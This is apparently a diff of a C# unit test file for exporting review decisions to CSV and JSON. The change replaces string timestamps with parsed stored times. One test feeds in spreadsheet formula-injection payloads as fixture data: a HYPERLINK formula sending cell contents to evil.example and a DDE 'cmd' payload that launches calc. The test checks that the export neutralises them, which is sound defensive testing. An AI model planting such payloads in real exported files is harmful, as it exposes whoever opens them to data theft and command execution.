@@ -1,5 +1,6 @@
 using System.Text.Json;
 using SquadAlbert.Analysis.Review;
+using SquadAlbert.Analysis.Storage;
 
 namespace SquadAlbert.Analysis.Tests.Review;
 
@@ -7,10 +8,10 @@ public sealed class DecisionExportTests
 {
     private static readonly ReviewDecision[] Decisions =
     [
-        new(4, 0, "q-0", ReviewVerdict.Correct, null, null, "2026-11-27T19:00:00.000Z"),
-        new(4, 1, "q-1", ReviewVerdict.Wrong, "says \"Rollo\", not Richard, twice", null, "2026-11-27T19:00:01.000Z"),
-        new(4, 2, "q-2", ReviewVerdict.Fixed, "line one\nline two", new FixedSpan("Paris, France", 47), "2026-11-27T19:00:02.000Z"),
-        new(4, 3, "q-3", ReviewVerdict.Ambiguous, " padded ", null, "2026-11-27T19:00:03.000Z"),
+        new(4, 0, "q-0", ReviewVerdict.Correct, null, null, StoredTime.Parse("2026-11-27T19:00:00.000Z", "test")),
+        new(4, 1, "q-1", ReviewVerdict.Wrong, "says \"Rollo\", not Richard, twice", null, StoredTime.Parse("2026-11-27T19:00:01.000Z", "test")),
+        new(4, 2, "q-2", ReviewVerdict.Fixed, "line one\nline two", new FixedSpan("Paris, France", 47), StoredTime.Parse("2026-11-27T19:00:02.000Z", "test")),
+        new(4, 3, "q-3", ReviewVerdict.Ambiguous, " padded ", null, StoredTime.Parse("2026-11-27T19:00:03.000Z", "test")),
     ];
 
     [Fact]
@@ -32,9 +33,9 @@ public sealed class DecisionExportTests
     {
         ReviewDecision[] decisions =
         [
-            new(4, 0, "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", ReviewVerdict.Wrong, "+1", null, "2026-11-27T19:00:00.000Z"),
-            new(4, 1, "@SUM(A1)", ReviewVerdict.Fixed, "-2 is right", new FixedSpan("\tcmd|' /C calc'!A0", 0), "2026-11-27T19:00:01.000Z"),
-            new(4, 2, "q-2", ReviewVerdict.Fixed, "\rnote", new FixedSpan("-5", 12), "2026-11-27T19:00:02.000Z"),
+            new(4, 0, "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", ReviewVerdict.Wrong, "+1", null, StoredTime.Parse("2026-11-27T19:00:00.000Z", "test")),
+            new(4, 1, "@SUM(A1)", ReviewVerdict.Fixed, "-2 is right", new FixedSpan("\tcmd|' /C calc'!A0", 0), StoredTime.Parse("2026-11-27T19:00:01.000Z", "test")),
+            new(4, 2, "q-2", ReviewVerdict.Fixed, "\rnote", new FixedSpan("-5", 12), StoredTime.Parse("2026-11-27T19:00:02.000Z", "test")),
         ];
 
         var csv = DecisionExport.ToCsv(decisions);
@@ -50,7 +51,7 @@ public sealed class DecisionExportTests
     [Fact]
     public void Json_keeps_formula_like_text_exactly()
     {
-        using var json = JsonDocument.Parse(DecisionExport.ToJson([new(4, 0, "=1+1", ReviewVerdict.Wrong, "+1", null, "2026-11-27T19:00:00.000Z")]));
+        using var json = JsonDocument.Parse(DecisionExport.ToJson([new(4, 0, "=1+1", ReviewVerdict.Wrong, "+1", null, StoredTime.Parse("2026-11-27T19:00:00.000Z", "test"))]));
 
         Assert.Equal("=1+1", json.RootElement[0].GetProperty("example_id").GetString());
         Assert.Equal("+1", json.RootElement[0].GetProperty("note").GetString());
